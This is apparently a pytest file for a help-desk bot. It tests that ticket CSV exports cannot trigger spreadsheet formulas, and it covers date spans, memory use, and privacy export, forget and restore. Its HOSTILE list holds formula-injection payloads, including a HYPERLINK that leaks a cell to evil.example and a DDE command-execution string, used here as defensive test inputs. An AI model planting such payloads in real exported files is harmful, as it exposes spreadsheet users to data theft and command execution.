"""desk export tickets: CSV that a spreadsheet reads and that can do nothing there; and desk privacy."""

import asyncio
import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import insert
from typer.testing import CliRunner, Result

from adapters.db import export as pages
from adapters.db import tables
from adapters.db.privacy import MARKS_FILE, read_marks
from adapters.db.store import Store, open_to_read
from bot.__main__ import app
from bot.backup import Refused
from bot.export import BEGINS, beginning, harmless, lines
from core.model.organisation import Organisation
from core.model.proposal import WordCounter
from core.service import ownership, progress
from tests.adapters.test_store import file
from tests.bot.test_configuration import EXAMPLE
from tests.conftest import HandClock
from tests.examples import examples

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1",
    " =cmd|' /C calc'!A0", 'fine"; =1+1', "fine;-1+1", "fine;\"=1+1", "Cafés, 日本 🔥\u2028“quoted”", 'say "hi", twice',
]  # fmt: skip


@pytest.mark.parametrize("subject", HOSTILE)
def test_no_cell_begins_a_formula_however_it_is_split(subject: str) -> None:
    written = lines([[1001, subject]])
    (row,) = csv.reader(io.StringIO(written, newline=""))
    assert row[0] == "1001"
    assert row[1].replace("'", "") == subject.replace("'", "")  # nothing else is changed
    for separator in (",", ";", "\t"):
        for cells in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            assert not [cell for cell in cells if cell.strip(' "').startswith(BEGINS)]


@settings(max_examples=examples(100), deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_what_is_written_is_read_back_but_for_apostrophes(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(lines([cells]), newline=""))
    assert [cell.replace("'", "") for cell in row] == [cell.replace("'", "").replace("\x00", "") for cell in cells]
    assert not any(cell.startswith(BEGINS) for cell in row)


def test_an_ordinary_subject_is_left_as_it_is() -> None:
    for subject in ("It fails, -1 is returned", "a@b.example does not get mail", "1 + 1 = 2; so what", ""):
        assert harmless(subject) == subject


def test_since_is_a_span_or_a_date_and_else_it_is_said() -> None:
    now = datetime(2026, 3, 31, 12, tzinfo=UTC)
    assert beginning("30d", now) == datetime(2026, 3, 1, 12, tzinfo=UTC)
    assert beginning("2026-03-02", now) == datetime(2026, 3, 2, tzinfo=UTC)
    with pytest.raises(Refused, match="--since is a span"):
        beginning("yesterday", now)


async def a_store(folder: Path, organisation: Organisation, clock: HandClock) -> Store:
    """The store that the command line finds in a folder, open as a running desk has it."""
    store = Store(
        f"sqlite+aiosqlite:///{folder / 'data' / 'desk.db'}", organisation=organisation,
        classifier=WordCounter(), time=clock,
    )  # fmt: skip
    await store.open()
    return store


def desk(*arguments: str) -> Result:
    """The command line, in this process; a refusal is its exception."""
    return CliRunner().invoke(app, arguments)


async def two_tickets(folder: Path, organisation: Organisation, clock: HandClock) -> int:
    """One of forty days ago, and one of twenty days ago, resolved; its number."""
    clock.present = datetime.now(UTC) - timedelta(days=40)
    store = await a_store(folder, organisation, clock)
    await file(store, "Too long ago")
    clock.advance(days=20)
    number = await file(store, "=1+1 сломалось", "telegram/1002")
    async with store.work() as uow:
        await ownership.accept(uow, number, by=organisation.people[0])
        await progress.resolve(uow, number, "Mended", by=organisation.people[0])
    await store.close()
    return number


def test_tickets_are_exported_with_their_promises(folder: Path, organisation: Organisation, clock: HandClock) -> None:
    number = asyncio.run(two_tickets(folder, organisation, clock))
    assert "Tickets in tickets.csv: 1." in desk("export", "tickets", "--out", "tickets.csv").output
    assert (folder / "tickets.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (folder / "tickets.csv").stat().st_mode & 0o777 == 0o600
    (row,) = csv.DictReader(io.StringIO((folder / "tickets.csv").read_text("utf-8-sig")))
    assert (row["number"], row["state"], row["priority"]) == (str(number), "resolved", "P3")
    assert (row["owner"], row["subject"]) == (organisation.people[0].name, "'=1+1 сломалось")
    assert (row["first_answer_promise"], row["resolution_promise"]) == ("met", "met")
    assert row["opened_utc"] == f"{clock.now():%Y-%m-%d %H:%M:%S}"
    printed = desk("export", "tickets", "--since", "60d").output
    assert printed.startswith('"number"')
    assert len(list(csv.DictReader(io.StringIO(printed)))) == 2
    refused = desk("export", "tickets", "--out", "tickets.csv").exception
    assert "is there already" in str(refused)


async def test_memory_does_not_grow_with_the_number_of_tickets(
    sqlite_url: str, organisation: Organisation, clock: HandClock
) -> None:
    store = Store(sqlite_url, organisation=organisation, classifier=WordCounter(), time=clock)
    await store.open()
    await file(store)
    async with store.engine.connect() as connection:
        (ticket,) = (await connection.execute(tables.ticket.select())).mappings().all()
    many = [{**ticket, "number": n, "subject": "x" * 80, "thread": None} for n in range(2001, 2001 + 4_000)]
    async with store.engine.execution_options(readonly=False).begin() as connection:
        await connection.execute(insert(tables.ticket), many)
    await store.close()
    del many
    engine, sizes, count = await open_to_read(sqlite_url), [], 0
    tracemalloc.start()
    async for page in pages.tickets(engine, clock.now()):
        count += len(page)
        lines(page)
        sizes.append(tracemalloc.get_traced_memory()[0])
    tracemalloc.stop()
    await engine.dispose()
    assert count == 4_001
    assert sizes[-2] < sizes[1] * 1.5


def test_an_operator_exports_and_forgets_somebody_and_a_restore_elsewhere_does_not_bring_them_back(
    folder: Path, organisation: Organisation, clock: HandClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DESK_BACKUP_FOLDER", "backups")
    (folder / "desk.toml").write_text(EXAMPLE.read_text("utf-8"), "utf-8")
    with asyncio.Runner() as runner:
        store = runner.run(a_store(folder, organisation, clock))
        runner.run(file(store, "About Zanzibar"))
        written = desk("privacy", "export", "--telegram", "1001").output
        assert json.loads(written)["tickets"][0]["subject"] == "About Zanzibar"
        assert "Stop it first" in str(desk("privacy", "forget", "--telegram", "1001", "--yes").exception)
        runner.run(store.close())
    (folder / "backups").mkdir()
    desk("backup", "backups/one")
    assert desk("privacy", "forget", "--telegram", "1001").exit_code == 1  # nobody said yes
    assert "is forgotten" in desk("privacy", "forget", "--telegram", "1001", "--yes").output
    assert "Nothing is kept of 1001" in str(desk("privacy", "forget", "--telegram", "1001", "--yes").exception)
    assert "Nothing is kept of 1001" in str(desk("privacy", "export", "--telegram", "1001").exception)
    assert len(read_marks(folder / "backups" / MARKS_FILE)) == 1
    (folder / "data" / "desk.db").unlink()  # another machine, with the folder of the backups
    assert "People forgotten again: 1." in desk("restore", "backups/one").output
    assert "Nothing is kept of 1001" in str(desk("privacy", "export", "--telegram", "1001").exception)
    (folder / "bad").write_text("?", "utf-8")
    refused = desk("restore", "--force", "--forgotten", "bad", "backups/one").exception
    assert (
        str(refused)
        == "Line 1 of bad is no mark of a forgotten person. Mend it, or name another file with --forgotten."
    )
